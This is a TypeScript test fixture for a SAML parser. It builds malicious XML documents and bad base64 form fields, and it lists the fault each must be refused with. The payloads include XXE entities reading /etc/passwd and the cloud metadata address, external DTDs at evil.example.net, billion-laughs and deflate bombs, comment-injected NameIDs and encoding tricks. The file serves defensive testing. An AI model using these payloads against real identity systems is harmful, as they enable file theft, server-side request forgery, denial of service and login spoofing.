// Documents that hurt whoever parses them, or that two parsers read in two ways (F1).

import { deflateRawSync, gzipSync } from 'node:zlib';
import type { SamlFault } from '../../src/kit/saml/refused.ts';
import { type Attack, type Bench, swap } from './saml-attacks.ts';

const start = (document: string, before: string) => `${before}${document}`;
const named = (document: string, text: string) => swap(document, '>ada<', `>${text}<`);
const inResponse = (document: string, inner: string) => swap(document, '<samlp:Status>', `${inner}<samlp:Status>`);
const declared = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>`;
const bigEndian = (text: string) => Buffer.from(text, 'utf16le').swap16();
const laughs = Array.from({ length: 10 }, (_, at) =>
  at === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${at} "${`&l${at - 1};`.repeat(10)}">`,
).join('');
const external = (target: string) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${target}">]>`;

/** The bytes of an answer with some of its text as other bytes. */
const bytes = (document: string, text: string, ...instead: number[]) => {
  const [before = '', after = ''] = document.split(text);
  return Buffer.concat([Buffer.from(before), Buffer.from(instead), Buffer.from(after)]);
};

type Change = (document: string) => string | Uint8Array;

/** What is done to an honest answer, and why it is refused. */
const MARKUP: [name: string, fault: SamlFault, change: Change][] = [
  ['a document type', 'markup', (honest) => start(honest, '<!DOCTYPE r>')],
  ['a document type in small letters', 'markup', (honest) => start(honest, '<!doctype r>')],
  ['a document type behind a declaration', 'markup', (honest) => start(honest, `${declared('UTF-8')}<!DOCTYPE r []>`)],
  ['a document type in the middle', 'markup', (honest) => inResponse(honest, '<!DOCTYPE r>')],
  ['a document type in an attribute', 'markup', (honest) => swap(honest, '"email"', '"<!DOCTYPE r>"')],
  ['an entity without a document type', 'markup', (honest) => start(honest, '<!ENTITY x "y">')],
  [
    'an external document type',
    'markup',
    (honest) => start(honest, '<!DOCTYPE r SYSTEM "http://evil.example.net/x.dtd">'),
  ],
  ['an entity that is a file', 'markup', (honest) => start(named(honest, '&x;'), external('file:///etc/passwd'))],
  [
    'an entity that is an address',
    'markup',
    (honest) => start(named(honest, '&x;'), external('http://169.254.169.254/')),
  ],
  ['a parameter entity', 'markup', (honest) => start(honest, '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil/"> %x;]>')],
  ['a billion laughs', 'markup', (honest) => start(named(honest, '&l9;'), `<!DOCTYPE r [${laughs}]>`)],
  [
    'a long entity, many times',
    'markup',
    (honest) => start(named(honest, '&a;'.repeat(9_000)), `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]>`),
  ],
  ['an attribute by default', 'markup', (honest) => start(honest, '<!DOCTYPE r [<!ATTLIST NameID a CDATA "b">]>')],
  ['UTF-16 with a mark', 'encoding', (honest) => Buffer.from(`\ufeff${honest}`, 'utf16le')],
  ['UTF-16 of the other order with a mark', 'encoding', (honest) => bigEndian(`\ufeff${honest}`)],
  ['UTF-16 without a mark', 'xml', (honest) => Buffer.from(honest, 'utf16le')],
  ['UTF-16 of the other order without a mark', 'xml', (honest) => bigEndian(honest)],
  ['a document type in UTF-16', 'encoding', (honest) => Buffer.from(`\ufeff<!DOCTYPE r>${honest}`, 'utf16le')],
  ['UTF-32', 'xml', (honest) => Buffer.from([...honest].flatMap((letter) => [0, 0, 0, letter.charCodeAt(0)]))],
  ['a declaration of UTF-16', 'markup', (honest) => start(honest, declared('UTF-16'))],
  ['a declaration of UTF-7', 'markup', (honest) => start(honest, declared('UTF-7'))],
  ['a declaration of Latin-1', 'markup', (honest) => start(honest, declared('ISO-8859-1'))],
  ['a declaration of EBCDIC', 'markup', (honest) => start(honest, declared('IBM037'))],
  ['a document type in UTF-7', 'xml', (honest) => start(honest, '+ADw-+ACE-DOCTYPE r+AD4-')],
  ['XML 1.1', 'markup', (honest) => start(honest, '<?xml version="1.1"?>')],
  ['two declarations', 'markup', (honest) => start(honest, declared('UTF-8').repeat(2))],
  ['a declaration behind space', 'markup', (honest) => start(honest, ` ${declared('UTF-8')}`)],
  ['two marks of byte order', 'xml', (honest) => start(honest, '\ufeff\ufeff')],
  ['an overlong “<!”', 'encoding', (honest) => bytes(honest, '<samlp:Status>', 0xc0, 0xbc, 0x21)],
  ['half a character', 'encoding', (honest) => bytes(honest, '>ada<', 0x3e, 0xc3, 0x3c)],
  ['half a surrogate pair', 'encoding', (honest) => bytes(honest, '>ada<', 0x3e, 0xed, 0xa0, 0x80, 0x3c)],
  ['a byte of Latin-1', 'encoding', (honest) => bytes(honest, '>ada<', 0x3e, 0xe4, 0x3c)],
  ['NUL in its name', 'xml', (honest) => named(honest, 'ada\0admin')],
  ['a control character', 'xml', (honest) => named(honest, 'ada\u0008')],
  ['a line end that only one parser knows', 'xml', (honest) => named(honest, 'ada\u0085')],
  ['a line separator', 'xml', (honest) => named(honest, 'ada\u2028')],
  ['a comment in its name', 'markup', (honest) => named(honest, 'ada@evil.com<!---->.example.com')],
  ['a comment before its name', 'markup', (honest) => named(honest, '<!---->ada')],
  ['a comment after its name', 'markup', (honest) => named(honest, 'ada<!-- admin -->')],
  ['a comment in an attribute’s value', 'markup', (honest) => swap(honest, '>ada@', '>ada<!---->@')],
  ['a comment in the audience', 'markup', (honest) => swap(honest, '</saml:Audience>', '<!----></saml:Audience>')],
  ['a comment in the issuer', 'markup', (honest) => swap(honest, '</saml:Issuer>', '<!----></saml:Issuer>')],
  ['a comment in the digest', 'markup', (honest) => swap(honest, '<ds:DigestValue>', '<ds:DigestValue><!--AAAA-->')],
  ['a comment between elements', 'markup', (honest) => inResponse(honest, '<!-- honest -->')],
  ['a comment before the document', 'markup', (honest) => start(honest, '<!-- honest -->')],
  ['a comment behind the document', 'markup', (honest) => `${honest}<!-- honest -->`],
  ['an instruction in its name', 'markup', (honest) => named(honest, 'ad<?x a?>')],
  ['an instruction between elements', 'markup', (honest) => inResponse(honest, '<?x y?>')],
  ['a style sheet', 'markup', (honest) => start(honest, '<?xml-stylesheet href="http://evil.example.net/x.xsl"?>')],
  ['CDATA for its name', 'markup', (honest) => named(honest, '<![CDATA[ada]]>')],
  ['CDATA in its name', 'markup', (honest) => named(honest, 'ada<![CDATA[]]>')],
  ['CDATA that hides elements', 'markup', (honest) => inResponse(honest, '<a><![CDATA[</a><b>]]></a>')],
  ['an entity that nobody declared', 'xml', (honest) => named(honest, '&ada;')],
  ['an entity of HTML', 'xml', (honest) => named(honest, 'ada&nbsp;')],
  ['a reference without an end', 'xml', (honest) => named(honest, 'ada&amp')],
  ['an ampersand alone', 'xml', (honest) => named(honest, 'a & da')],
  ['a reference to NUL', 'xml', (honest) => named(honest, 'ada&#0;')],
  ['a reference to a control character', 'xml', (honest) => named(honest, 'ada&#x8;')],
  ['a reference to half a pair', 'xml', (honest) => named(honest, 'ada&#xD800;')],
  ['a reference beyond Unicode', 'xml', (honest) => named(honest, 'ada&#x110000;')],
  ['a reference in capitals', 'xml', (honest) => named(honest, 'ada&#X41;')],
  ['a name of an element by reference', 'xml', (honest) => honest.replaceAll('saml:NameID', 'saml:&#78;ameID')],
  ['a name of an element beyond ASCII', 'xml', (honest) => honest.replaceAll('saml:NameID', 'saml:NameІD')],
  ['an end tag that is missing', 'xml', (honest) => swap(honest, '</saml:NameID>', '')],
  ['end tags that cross', 'xml', (honest) => inResponse(honest, '<a><b></a></b>')],
  ['an end tag in other letters', 'xml', (honest) => swap(honest, '</saml:NameID>', '</saml:nameid>')],
  ['an end tag with space in it', 'xml', (honest) => swap(honest, '</saml:NameID>', '</saml:NameID >')],
  ['an end tag with an attribute', 'xml', (honest) => swap(honest, '</saml:NameID>', '</saml:NameID a="b">')],
  ['an end that is cut off', 'xml', (honest) => honest.slice(0, -1)],
  ['a half of it', 'xml', (honest) => honest.slice(0, honest.length / 2)],
  ['two documents', 'xml', (honest) => honest + honest],
  ['text before it', 'xml', (honest) => start(honest, 'admin')],
  ['text behind it', 'xml', (honest) => `${honest}admin`],
  ['an attribute twice', 'xml', (honest) => swap(honest, ' Version=', ' Version="1.1" Version=')],
  ['an attribute without quotes', 'xml', (honest) => swap(honest, 'Name="email"', 'Name=email')],
  ['an attribute without a value', 'xml', (honest) => swap(honest, 'Name="email"', 'Name')],
  ['attributes without space between', 'xml', (honest) => swap(honest, '" Version=', '"Version=')],
  ['a “<” in an attribute', 'xml', (honest) => swap(honest, '"email"', '"<email"')],
  ['a space that is none', 'xml', (honest) => swap(honest, ' Version=', '\u00a0Version=')],
  ['a prefix that nobody declared', 'xml', (honest) => inResponse(honest, '<evil:a></evil:a>')],
  ['a prefix that was declared elsewhere', 'xml', (honest) => inResponse(honest, '<a xmlns:b="urn:b"></a><b:a></b:a>')],
  [
    'a prefix of an attribute that nobody declared',
    'xml',
    (honest) => swap(honest, ' Version=', ' evil:Version="" Version='),
  ],
  ['a prefix that is declared away', 'xml', (honest) => inResponse(honest, '<a xmlns:b=""></a>')],
  ['two prefixes of one element', 'xml', (honest) => inResponse(honest, '<a:b:c xmlns:a="urn:a"></a:b:c>')],
  ['the prefix xml as another', 'xml', (honest) => inResponse(honest, '<a xmlns:xml="urn:evil"></a>')],
  ['the prefix xmlns as another', 'xml', (honest) => inResponse(honest, '<a xmlns:xmlns="urn:evil"></a>')],
  ['an element of the prefix xmlns', 'xml', (honest) => inResponse(honest, '<xmlns:a></xmlns:a>')],
  [
    'an attribute that the canonical form leaves out',
    'xml',
    (honest) => swap(honest, 'Name="email"', 'Name="email" xmlnsName="a"'),
  ],
  ['a namespace by reference', 'xml', (honest) => inResponse(honest, '<a xmlns="urn:&#97;"></a>')],
  [
    'a script of HTML',
    'xml',
    (honest) => inResponse(honest, '<script xmlns="http://www.w3.org/1999/xhtml">a</script>'),
  ],
  ['65 levels', 'size', (honest) => inResponse(honest, '<a>'.repeat(64) + '</a>'.repeat(64))],
  ['100,000 levels', 'size', (honest) => inResponse(honest, '<a>'.repeat(100_000) + '</a>'.repeat(100_000))],
  ['10,001 elements', 'size', (honest) => inResponse(honest, '<a></a>'.repeat(10_001))],
  ['10,001 pieces of text', 'size', (honest) => inResponse(honest, ' <a></a>'.repeat(5_001))],
  ['10,001 references', 'size', (honest) => named(honest, '&#97;'.repeat(10_001))],
  ['65 attributes', 'size', (honest) => inResponse(honest, `<a${many(65, (at) => ` a${at}=""`)}></a>`)],
  ['100,000 attributes', 'size', (honest) => inResponse(honest, `<a${many(100_000, (at) => ` a${at}=""`)}></a>`)],
  ['65 prefixes around one element', 'size', (honest) => inResponse(honest, nested(65))],
  [
    '101 names of elements',
    'size',
    (honest) =>
      inResponse(
        honest,
        many(101, (at) => `<a${at}></a${at}>`),
      ),
  ],
  ['a namespace of 257 characters', 'size', (honest) => inResponse(honest, `<a xmlns="${'u'.repeat(257)}"></a>`)],
  ['a text of 1 MiB', 'size', (honest) => named(honest, 'a'.repeat(1024 * 1024))],
  ['a text of 10 MiB', 'size', (honest) => named(honest, 'a'.repeat(10 * 1024 * 1024))],
  ['an attribute of 1 MiB', 'size', (honest) => swap(honest, '"email"', `"${'a'.repeat(1024 * 1024)}"`)],
  ['room for 1 MiB', 'size', (honest) => inResponse(honest, ' '.repeat(1024 * 1024))],
  ['a deflated answer, as in an address', 'encoding', (honest) => deflateRawSync(honest)],
  ['a deflated bomb', 'encoding', () => deflateRawSync('a'.repeat(10 * 1024 * 1024))],
  ['a gzipped answer', 'encoding', (honest) => gzipSync(honest)],
  ['JSON', 'xml', () => '{"Response":{}}'],
  ['nothing but space', 'xml', () => ' \n '],
];

function many(count: number, each: (at: number) => string): string {
  return Array.from({ length: count }, (_, at) => each(at)).join('');
}

function nested(prefixes: number): string {
  const half = Math.ceil(prefixes / 2);
  const declare = (from: number) => many(half, (at) => ` xmlns:p${from + at}="urn:p"`);
  return `<a${declare(0)}><a${declare(half)}></a></a>`;
}

export const DOCUMENTS: Attack[] = MARKUP.map(([name, fault, change]) => ({
  name,
  fault,
  make: ({ answer }: Bench) => change(answer()),
}));

/** Form fields that are no base64 of anything. */
export const FIELDS: [name: string, fault: SamlFault, change: (field: string) => string][] = [
  ['nothing', 'encoding', () => ''],
  ['the document itself', 'encoding', (field) => Buffer.from(field, 'base64').toString()],
  ['base64 that is cut off', 'encoding', (field) => field.slice(0, -1 - (field.length % 4))],
  ['base64 with a letter too many', 'encoding', (field) => `A${field}`],
  ['base64 of addresses', 'encoding', (field) => `${field.slice(0, 8)}-_${field.slice(10)}`],
  ['base64 with something between', 'encoding', (field) => `${field.slice(0, 8)}!!!!${field.slice(8)}`],
  ['base64 with NUL between', 'encoding', (field) => `${field.slice(0, 8)}\0\0\0\0${field.slice(8)}`],
  ['base64 that ends in the middle', 'encoding', (field) => `${field.slice(0, 6)}==${field.slice(8)}`],
  ['base64 whose plus signs became spaces', 'encoding', (field) => field.replace(/[A-Z]/, ' ')],
  ['base64 twice', 'xml', (field) => Buffer.from(field).toString('base64')],
  ['base64 of 1 MiB and more', 'size', () => 'A'.repeat(1024 * 1024 + 4)],
  ['base64 of 1 MiB', 'encoding', () => '/'.repeat(1024 * 1024)],
  ['10 MiB of lines', 'size', (field) => field + '\n'.repeat(10 * 1024 * 1024)],
  ['percent signs', 'encoding', (field) => encodeURIComponent(`${field}=`)],
];
